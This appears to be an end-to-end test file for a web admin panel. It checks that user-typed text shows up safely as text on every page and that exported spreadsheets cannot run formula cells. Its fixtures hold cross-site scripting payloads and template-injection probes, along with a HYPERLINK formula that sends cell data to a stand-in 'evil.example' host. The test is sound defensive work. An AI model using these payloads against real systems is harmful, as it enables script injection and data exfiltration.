import { afterAll, beforeAll, expect, test } from '@jest/globals';
import type { Browser, Page } from 'playwright-core';
import { type TestApp, testApp } from '../support/app.js';
import { openBrowser, watch } from '../support/browser.js';
import { type Clerk, clerk } from '../support/clerk.js';
import { follow, officePages, visit } from '../support/office-pages.js';
import { furnish, type Scene, type Typed } from '../support/office-scene.js';

/** Everything at once: tags that would run, quotes, right-to-left text, an emoji of several parts, a word without end. */
const venom = `<script>hacked=1</script></script><img src=x onerror=hacked=1>"'\`&amp;{{7*7}}\${7*7}$t(home) שלום 👩‍👩‍👧 `;
const endless = 'm'.repeat(60);
const formula = '=HYPERLINK("http://evil.example/?"&A1,"open")';
const typed: Typed = {
  name: `${formula} ${venom}`.trim(),
  title: `${venom}${endless}`.slice(0, 200),
  description: `${venom}${endless}`,
  label: `${venom}L`.slice(0, 190),
  help: venom,
  option: `${venom}O`.slice(0, 190),
  answer: `${formula}${venom}${'m'.repeat(9_700)}`,
  notes: `${venom}${endless}`,
  reason: `${venom}${endless}`,
};

let app: TestApp;
let browser: Browser;
let scene: Scene;
beforeAll(async () => {
  [app, browser] = await Promise.all([testApp(), openBrowser()]);
  scene = await furnish(app, typed);
}, 60_000);
afterAll(async () => {
  await browser?.close();
  await app?.stop();
});

async function enter(role: 'support' | 'editor' | 'admin') {
  const who = await clerk(app, role);
  // Who sits there may be called so, too.
  await app.db.updateTable('users').set({ full_name: typed.name }).where('id', '=', who.id).execute();
  const [name = '', value = ''] = who.cookie.split('=');
  const context = await browser.newContext({ viewport: { width: 820, height: 1100 }, locale: 'en-GB' });
  context.setDefaultTimeout(20_000);
  await context.addCookies([{ name, value, url: app.origin }]);
  return { who, context, troubles: watch(context, app.origin), page: follow(await context.newPage()) };
}

/** Whether something typed was taken for markup, or makes the page wider than it is. */
const harm = (page: Page) =>
  page.evaluate(() => {
    const content = document.querySelector('[data-css="app-content"]') ?? document.documentElement;
    const found: string[] = [];
    if ('hacked' in window) found.push('a script of theirs ran');
    if (document.querySelector('img[src="x"]')) found.push('their markup is markup');
    if (document.body.innerText.includes('&amp;amp;')) found.push('escaped twice');
    if (content.scrollWidth > content.clientWidth) found.push('the page is wider than the window');
    return found;
  });

test.each(['support', 'editor', 'admin'] as const)(
  'what was typed is text on every page of %s, and breaks no page',
  async (role) => {
    const { context, page, troubles } = await enter(role);
    const found: string[] = [];
    let shown = 0;
    for (const { path } of officePages(scene).filter((each) => each.role === role)) {
      await visit(page, app.origin, path);
      for (const wrong of await harm(page)) found.push(`${path}: ${wrong}`);
      if ((await page.content()).includes('&lt;script&gt;hacked=1')) shown += 1;
    }
    await context.close();
    expect(found).toEqual([]);
    expect(troubles).toEqual({ console: [], failed: [], foreign: [] });
    // Most pages of a role show something of it.
    expect(shown).toBeGreaterThan(7);
  },
  180_000,
);

test('an answer of ten thousand characters is there whole, and an option and a name read as they were typed', async () => {
  const { context, page } = await enter('support');
  await page.goto(`${app.origin}/admin/resources/submissions/records/${scene.stuck}/show`);
  await page.getByText(typed.answer, { exact: true }).first().waitFor();
  await page.goto(`${app.origin}/admin/resources/users/records/${scene.member}/show`);
  await page.getByRole('heading', { name: typed.name.replace(/\s+/g, ' ').trim() }).waitFor();
  await context.close();
}, 60_000);

test('a message that names it is no template: it says what was typed', async () => {
  const { context, page } = await enter('editor');
  await page.goto(`${app.origin}/admin/resources/flows/records/${scene.flow}/edit`);
  await page.getByTestId('button-save').click();
  await page.locator('.notices').getByText(`“${typed.title.trim()}” is saved.`).waitFor();
  expect(await harm(page)).toEqual([]);
  await context.close();
}, 60_000);

const cells = (text: string) =>
  [...text.replace(/^\uFEFF/, '').matchAll(/(?:"((?:[^"]|"")*)"|([^,\r\n]*))(?:,|\r\n|$)/g)].map(
    ([, quoted, bare]) => quoted?.replaceAll('""', '"') ?? bare ?? '',
  );

test('exports hold it whole, and no spreadsheet runs a cell of them', async () => {
  const admin: Clerk = await clerk(app, 'admin');
  for (const resource of [
    'users',
    'submissions',
    'flows',
    'pages',
    'fields',
    'flow_versions',
    'mails',
    'webhooks',
    'audit_log',
  ]) {
    const { status, text } = await admin.get(`/exports/${resource}`);
    expect([resource, status]).toEqual([resource, 200]);
    expect(cells(text).filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
  }
  expect(cells((await admin.get('/exports/users')).text)).toContain(`'${typed.name}`);
  expect(cells((await admin.get('/exports/pages')).text)).toContain(`${typed.title}!`.slice(0, 201));
  const { body } = await admin.post(`/api/resources/users/records/${scene.member}/export`);
  const file = JSON.stringify(body.file);
  expect(JSON.parse(file)).toEqual(body.file);
  expect(file).toContain(JSON.stringify(typed.answer).slice(1, -1));
});
